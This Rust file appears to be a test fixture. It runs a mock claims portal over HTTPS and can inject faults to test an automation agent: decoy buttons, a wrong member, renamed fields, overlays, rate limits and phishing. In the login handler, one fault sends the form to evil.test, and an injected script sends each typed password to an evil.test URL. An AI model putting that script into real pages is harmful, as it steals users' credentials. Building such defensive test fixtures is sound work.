//! A small portal over HTTPS: login, home, request form, review, submit, list. Its faults are fields.

use std::{
    collections::BTreeMap,
    net::SocketAddr,
    path::PathBuf,
    sync::{Arc, Mutex, OnceLock},
};

use axum::{
    Form, Router,
    body::Bytes,
    extract::{Path, State},
    http::{HeaderMap, StatusCode, header},
    response::{Html, IntoResponse, Redirect, Response},
    routing::{get, post},
};
use serde::Deserialize;
use tokio::net::{TcpListener, TcpStream};
use tokio_rustls::{TlsAcceptor, server::TlsStream};

use crate::claims;

/// The portal's host.
pub(crate) const HOST: &str = "portal.field.test";

/// What the portal does and what it received.
#[derive(Default)]
pub(crate) struct Ledger {
    /// Requests that were submitted, as `member/code`.
    pub(crate) submitted: Vec<String>,
    /// Logins.
    pub(crate) logins: u32,
    /// Live sessions are over.
    pub(crate) expired: bool,
    /// Answers the submit with this status, although it records it.
    pub(crate) submit_status: Option<u16>,
    /// The review page shows another member.
    pub(crate) wrong_member: bool,
    /// The review page has a second button that looks like the first strategy's.
    pub(crate) decoy: bool,
    /// What the confirmation says of the request, where it is not the usual.
    pub(crate) done_says: Option<String>,
    /// The confirmation shows no number.
    pub(crate) no_number: bool,
    /// The login form sends its password elsewhere.
    pub(crate) phishing: bool,
    /// The login page leaves for another host at the first letter of the password.
    pub(crate) runs_away: bool,
    /// Home shows an announcement over everything.
    pub(crate) announcement: bool,
    /// Home opens an alert nobody declared.
    pub(crate) alert: bool,
    /// The list cannot be shown.
    pub(crate) list_down: bool,
    /// The list answers "too many requests" and says how long to stay away.
    pub(crate) list_busy: bool,
    /// So many looks at the list show nothing, as if its source were down.
    pub(crate) list_empty: u32,
    /// The statement of the form, where it is not the usual one.
    pub(crate) statement: Option<String>,
    /// How the form was changed.
    pub(crate) redesign: Redesign,
    /// State and paid amount of the claim; empty: in process.
    pub(crate) claim: (String, Option<String>),
    /// What the page's script writes over the state.
    pub(crate) claim_shown: Option<String>,
    /// Decisions on lines of the claim after its first one.
    pub(crate) more_lines: Vec<String>,
    /// So many spaces at the end of the claim's page.
    pub(crate) claim_padding: usize,
    /// The claim's page sends on to there.
    pub(crate) claim_leads_to: Option<String>,
    /// What was typed last into the form.
    pub(crate) form: (String, String),
    /// Pages of a test's own, by their path below `/lab/`. `!413 words`: that status, with these words.
    pub(crate) lab: BTreeMap<String, String>,
    /// What was sent to them, as `path body`.
    pub(crate) posted: Vec<String>,
}

/// What a redesign did to the form.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) enum Redesign {
    #[default]
    None,
    /// The procedure code has other words and another name.
    Renamed,
    /// There are two of it.
    Twins,
    /// It is gone.
    Removed,
    /// Buttons and links beside the form have other words.
    Worded,
}

/// The portal.
pub(crate) type Site = Arc<Mutex<Ledger>>;

/// A running portal: its state, where it listens, and the authority to trust.
pub(crate) struct Running {
    pub(crate) site: Site,
    pub(crate) at: SocketAddr,
    pub(crate) ca: PathBuf,
}

/// The one portal of this binary.
pub(crate) async fn running() -> &'static Running {
    static RUNNING: OnceLock<Running> = OnceLock::new();
    if let Some(running) = RUNNING.get() {
        return running;
    }
    let site = Site::default();
    let (acceptor, pem) = certificate();
    let listener = TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
    let at = listener.local_addr().unwrap();
    let app = pages(Arc::clone(&site));
    tokio::spawn(async move { axum::serve(Tls { listener, acceptor }, app).await.unwrap() });
    let folder = std::env::temp_dir().join(format!("fleet-engine-tests-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    let ca = folder.join("ca.pem");
    std::fs::write(&ca, pem).unwrap();
    RUNNING.get_or_init(|| Running { site, at, ca })
}

fn certificate() -> (TlsAcceptor, String) {
    let mut params = rcgen::CertificateParams::new(Vec::new()).unwrap();
    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    params.distinguished_name.push(rcgen::DnType::CommonName, "Field Authority");
    let key = rcgen::KeyPair::generate().unwrap();
    let ca = params.self_signed(&key).unwrap();
    let issuer = rcgen::Issuer::new(params, key);
    let key = rcgen::KeyPair::generate().unwrap();
    let names = vec![HOST.to_owned(), "evil.test".to_owned()];
    let cert = rcgen::CertificateParams::new(names).unwrap().signed_by(&key, &issuer).unwrap();
    let key = rustls::pki_types::PrivateKeyDer::try_from(key.serialize_der()).unwrap();
    let config = rustls::ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(vec![cert.der().clone()], key)
        .unwrap();
    (TlsAcceptor::from(Arc::new(config)), ca.pem())
}

struct Tls {
    listener: TcpListener,
    acceptor: TlsAcceptor,
}

impl axum::serve::Listener for Tls {
    type Io = TlsStream<TcpStream>;
    type Addr = SocketAddr;

    async fn accept(&mut self) -> (Self::Io, Self::Addr) {
        loop {
            if let Ok((socket, from)) = self.listener.accept().await
                && let Ok(tls) = self.acceptor.accept(socket).await
            {
                return (tls, from);
            }
        }
    }

    fn local_addr(&self) -> std::io::Result<Self::Addr> {
        self.listener.local_addr()
    }
}

fn pages(site: Site) -> Router {
    Router::new()
        .route("/login", get(login).post(sign_in))
        .route("/logout", get(logout))
        .route("/home", get(home))
        .route("/new", get(form))
        .route("/review", post(review))
        .route("/submit", post(submit))
        .route("/done", get(done))
        .route("/list", get(list))
        .route("/claim", get(claims::claim))
        .route("/claims", get(claims::found))
        .route("/claims/{number}", get(claims::by_number))
        .route("/claims/{number}/lines", get(claims::lines))
        .route("/lines", get(claims::lines_of))
        .route("/lab/{*path}", get(lab).post(lab_post))
        .with_state(site)
}

async fn lab(State(site): State<Site>, Path(path): Path<String>) -> Response {
    let body = site.lock().unwrap().lab.get(&path).cloned();
    let Some(body) = body else { return StatusCode::NOT_FOUND.into_response() };
    match body.strip_prefix('!').and_then(|rest| rest.split_once(' ')) {
        Some((status, words)) => {
            (StatusCode::from_u16(status.parse().unwrap()).unwrap(), page("Lab", words))
                .into_response()
        }
        None => page("Lab", &body).into_response(),
    }
}

async fn lab_post(state: State<Site>, path: Path<String>, body: Bytes) -> Response {
    let posted = format!("{} {}", path.0, String::from_utf8_lossy(&body));
    state.lock().unwrap().posted.push(posted);
    lab(state, path).await
}

pub(crate) fn page(title: &str, body: &str) -> Html<String> {
    Html(format!(
        "<!DOCTYPE html><html><head><title>{title}</title></head><body>{body}</body></html>"
    ))
}

pub(crate) fn signed_in(site: &Site, headers: &HeaderMap) -> bool {
    let cookie = headers.get(header::COOKIE).and_then(|value| value.to_str().ok());
    cookie.is_some_and(|cookie| cookie.contains("field=1")) && !site.lock().unwrap().expired
}

async fn login(State(site): State<Site>) -> Html<String> {
    let away = if site.lock().unwrap().runs_away {
        "<script>addEventListener('input', (e) => { if (e.target.type === 'password') \
         location = 'https://evil.test/login?p=' + e.target.value })</script>"
    } else {
        ""
    };
    let worded = site.lock().unwrap().redesign == Redesign::Worded;
    let button = if worded { "Log in" } else { "Sign in" };
    let action = if site.lock().unwrap().phishing { "https://evil.test/login" } else { "/login" };
    page(
        "Sign in",
        &format!(
            "<h1>Sign in</h1><form method=post action='{action}'><label>User name <input name=user></label>\
         <label>Password <input type=password name=password></label><button>{button}</button></form>{away}"
        ),
    )
}

#[derive(Deserialize)]
struct Credentials {
    user: String,
    password: String,
}

async fn sign_in(State(site): State<Site>, Form(given): Form<Credentials>) -> Response {
    if given.user != "jo" || given.password != "tangerine-9" {
        return page("Sign in", "<p>The password is incorrect.</p>").into_response();
    }
    let mut ledger = site.lock().unwrap();
    ledger.logins += 1;
    ledger.expired = false;
    ([(header::SET_COOKIE, "field=1; Secure; Path=/")], Redirect::to("/home")).into_response()
}

async fn logout() -> Response {
    ([(header::SET_COOKIE, "field=0; Secure; Path=/")], page("Bye", "<p>You have signed out.</p>"))
        .into_response()
}

async fn home(State(site): State<Site>, headers: HeaderMap) -> Response {
    if !signed_in(&site, &headers) {
        return Redirect::to("/login").into_response();
    }
    let ledger = site.lock().unwrap();
    let mut body = "<h1>Welcome</h1><nav><a href=/new>New request</a> <a href=/list>Requests</a> \
                    <a href=/logout>Sign out</a></nav>"
        .to_owned();
    if ledger.announcement {
        body.push_str(
            "<div role=dialog aria-label=Announcements style='position:fixed;inset:0;background:#fff'>\
             <button onclick='this.parentElement.remove()'>Close</button></div>",
        );
    }
    if ledger.alert {
        body.push_str("<script>setTimeout(() => alert('Your data will be shared.'), 50)</script>");
    }
    page("Home", &body).into_response()
}

const STATEMENT: &str = "I certify that this request is true.";

async fn form(State(site): State<Site>, headers: HeaderMap) -> Response {
    if !signed_in(&site, &headers) {
        return Redirect::to("/login").into_response();
    }
    let code = match site.lock().unwrap().redesign {
        Redesign::None | Redesign::Worded => "<label>Procedure code <input name=code></label>",
        Redesign::Renamed => "<p><label>Procedure codes: <input name=c_71></label></p>",
        Redesign::Twins => {
            "<label>Procedure codes <input name=c_71></label><label>Procedure coded <input name=c_72></label>"
        }
        Redesign::Removed => "<label>Place of service <input name=c_71></label>",
    };
    let statement = site.lock().unwrap().statement.clone();
    let statement = statement.as_deref().unwrap_or(STATEMENT);
    page("New", &format!(
        "<h1>New request</h1><form method=post action=/review><label>Member ID <input name=member></label>\
         {code}\
         <label><input type=checkbox name=true_ required> {statement}</label><button>Continue</button></form>"
    ))
    .into_response()
}

#[derive(Deserialize)]
struct Filled {
    member: String,
    #[serde(alias = "c_71")]
    code: String,
}

async fn review(State(site): State<Site>, Form(filled): Form<Filled>) -> Html<String> {
    let mut ledger = site.lock().unwrap();
    ledger.form = (filled.member.clone(), filled.code.clone());
    let shown = if ledger.wrong_member { "X9999999".to_owned() } else { filled.member };
    let decoy =
        if ledger.decoy { "<p><button class=send type=button>Send later</button></p>" } else { "" };
    let class = if ledger.decoy { "" } else { "class=send" };
    let change =
        if ledger.redesign == Redesign::Worded { "Change requests" } else { "Change request" };
    page(
        "Review",
        &format!(
            "<h1>Review</h1><section aria-label=Review><p>Member {shown}</p><p>Code {code}</p>\
         <form method=post action=/submit><button {class}>Submit request</button></form></section>\
         <a href=/new>{change}</a>{decoy}",
            code = filled.code
        ),
    )
}

async fn submit(State(site): State<Site>) -> Response {
    let mut ledger = site.lock().unwrap();
    let record = format!("{}/{}", ledger.form.0, ledger.form.1);
    ledger.submitted.push(record);
    match ledger.submit_status {
        Some(status) => {
            (StatusCode::from_u16(status).unwrap(), page("Error", "<h1>Something went wrong</h1>"))
                .into_response()
        }
        None => Redirect::to("/done").into_response(),
    }
}

async fn done(State(site): State<Site>) -> Html<String> {
    let ledger = site.lock().unwrap();
    let number = if ledger.no_number { "soon" } else { "FT-2026-000071" };
    let says = ledger.done_says.as_deref().unwrap_or("Under review");
    page(
        "Done",
        &format!(
            "<h1>Thank you</h1><p class=number>Reference: {number}</p><p class=status>{says}</p>"
        ),
    )
}

async fn list(State(site): State<Site>, headers: HeaderMap) -> Response {
    if !signed_in(&site, &headers) {
        return Redirect::to("/login").into_response();
    }
    let mut ledger = site.lock().unwrap();
    let hidden = ledger.list_empty > 0;
    ledger.list_empty = ledger.list_empty.saturating_sub(1);
    if ledger.list_busy {
        let asked = [("retry-after", "120")];
        return (StatusCode::TOO_MANY_REQUESTS, asked, page("Requests", "<h1>Slow down</h1>"))
            .into_response();
    }
    if ledger.list_down {
        return page("Requests", "<h1>Requests</h1><p>Please try later.</p>").into_response();
    }
    if ledger.submitted.is_empty() || hidden {
        return page("Requests", "<h1>Requests</h1><p>No requests found.</p>").into_response();
    }
    let rows: String = ledger
        .submitted
        .iter()
        .enumerate()
        .map(|(at, record)| {
            let (member, code) = record.split_once('/').unwrap();
            format!("<tr><td>FT-2026-00007{}</td><td>{member}</td><td>{code}</td><td>Under review</td></tr>", at + 1)
        })
        .collect();
    page("Requests", &format!(
        "<h1>Requests</h1><table><caption>Requests</caption><tr><th>Number</th><th>Member</th><th>Code</th>\
         <th>Status</th></tr>{rows}</table>"
    ))
    .into_response()
}
